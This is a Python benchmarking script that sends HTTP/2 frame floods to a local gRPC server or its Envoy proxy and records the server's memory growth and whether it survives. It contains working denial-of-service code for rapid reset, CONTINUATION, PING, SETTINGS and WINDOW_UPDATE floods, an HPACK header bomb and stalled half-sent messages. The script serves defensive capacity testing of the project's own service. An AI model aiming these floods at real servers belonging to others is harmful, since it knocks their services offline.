#!/usr/bin/env python3
"""Measures what floods of HTTP/2 frames do to the server's memory.

    python3 h2_flood.py PORT PID [--count N] [--tls] [ATTACK...]

Each attack opens one connection to 127.0.0.1:PORT, sends N frames (or until it is cut off), and
prints how much the resident memory of the process PID grew and whether the server still answers.
Needs python3-h2. With --tls, PORT is that of the Envoy of deploy/envoy.yaml, and PID is Envoy's or
the server's behind it. Figures, not a test: see deploy/README.md.
"""

import argparse
import re
import socket
import ssl
import struct
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/deltaserve.v1.DeltaServe/GetModel"


class Connection:
    def __init__(self, port, tls):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.scheme = "http"
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
            self.scheme = "https"
        self.encoder = hpack.Encoder()
        self.socket.sendall(PREFACE + frames.SettingsFrame(0).serialize())
        self.stream = -1
        self.received = 0
        self.goaway = False
        self.unparsed = b""

    def headers(self, extra=(), end_headers=True, end_stream=False):
        """HEADERS of a new call."""
        self.stream += 2
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", self.scheme), (":path", PATH),
            (":authority", "localhost"), ("te", "trailers"),
            ("content-type", "application/grpc"), *extra])
        frame = frames.HeadersFrame(self.stream, block)
        if end_headers:
            frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def look_at(self, piece):
        self.received += len(piece)
        self.unparsed += piece
        while len(self.unparsed) >= 9:
            size = 9 + int.from_bytes(self.unparsed[:3], "big")
            if len(self.unparsed) < size:
                break
            self.goaway |= self.unparsed[3] == 7
            self.unparsed = self.unparsed[size:]

    def send(self, data):
        """Returns False if the connection was closed."""
        try:
            self.socket.settimeout(20)
            self.socket.sendall(data)
            self.socket.settimeout(0)
            while piece := self.socket.recv(1 << 16):
                self.look_at(piece)
            return False
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        except OSError:
            return False


def rapid_reset(c):
    return c.headers() + frames.RstStreamFrame(c.stream, 8).serialize()


def ping(c):
    return frames.PingFrame(0, b"12345678").serialize()


def settings(c):
    return frames.SettingsFrame(0, {4: 65535}).serialize()


def empty_data(c):
    first = c.headers() if c.stream < 0 else b""
    return first + frames.DataFrame(c.stream, b"").serialize()


def continuation(c):
    first = c.headers(end_headers=False) if c.stream < 0 else b""
    return first + frames.ContinuationFrame(c.stream, hpack.Encoder().encode(
        [("x-%d" % id(object()), "a" * 64)], huffman=False)).serialize()


def hpack_bomb(c):
    # One long header in the table, then many references to it.
    if c.stream < 0:
        return c.headers([("x-bomb", "b" * 3500)])
    return c.headers([("x-bomb", "b" * 3500)] * 16)


def window_update(c):
    first = c.headers() if c.stream < 0 else b""
    return first + frames.WindowUpdateFrame(c.stream, 1).serialize()


def open_calls(c):
    return c.headers()


def half_messages(c):
    # A call that announces a message of 1 MiB and sends half of one frame of it.
    return (c.headers() +
            frames.DataFrame(c.stream, b"\0" + struct.pack(">I", 1 << 20) + b"a" * 8000).serialize())


ATTACKS = [rapid_reset, ping, settings, empty_data, continuation, hpack_bomb, window_update,
           open_calls, half_messages]


def resident_mib(pid):
    with open("/proc/%d/status" % pid) as status:
        return int(re.search(r"VmRSS:\s+(\d+) kB", status.read())[1]) / 1024


def answers(port, tls):
    """Whether a ping of a new connection comes back within 10 s."""
    start = time.monotonic()
    while time.monotonic() - start < 10:
        try:
            connection = Connection(port, tls)
            connection.send(ping(connection))
            time.sleep(0.2)
            connection.send(b"")
            connection.socket.close()
            if connection.received > 0:
                return True
        except OSError:
            pass
        time.sleep(0.2)
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument("attacks", nargs="*")
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--tls", action="store_true")
    arguments = parser.parse_args()
    print("| attack | frames sent | seconds | closed | memory during | after |")
    print("|---|---|---|---|---|---|")
    for attack in ATTACKS:
        if arguments.attacks and attack.__name__ not in arguments.attacks:
            continue
        before = resident_mib(arguments.pid)
        connection = Connection(arguments.port, arguments.tls)
        connection.send(b"")
        start = time.monotonic()
        sent, peak, open_ = 0, before, True
        while sent < arguments.count and open_:
            open_ = connection.send(b"".join(attack(connection) for _ in range(50)))
            sent += 50
            if sent % 5000 == 0:
                peak = max(peak, resident_mib(arguments.pid))
        seconds = time.monotonic() - start
        peak = max(peak, resident_mib(arguments.pid))
        closed = "GOAWAY" if connection.goaway else "no" if open_ else "yes"
        connection.socket.close()
        time.sleep(2)
        after = resident_mib(arguments.pid)
        alive = "" if answers(arguments.port, arguments.tls) else " (no answer any more)"
        print("| %s | %d | %.1f | %s | %+.0f MiB | %+.0f MiB%s |" % (
            attack.__name__.replace("_", " "), sent, seconds, closed, peak - before,
            after - before, alive), flush=True)


if __name__ == "__main__":
    main()
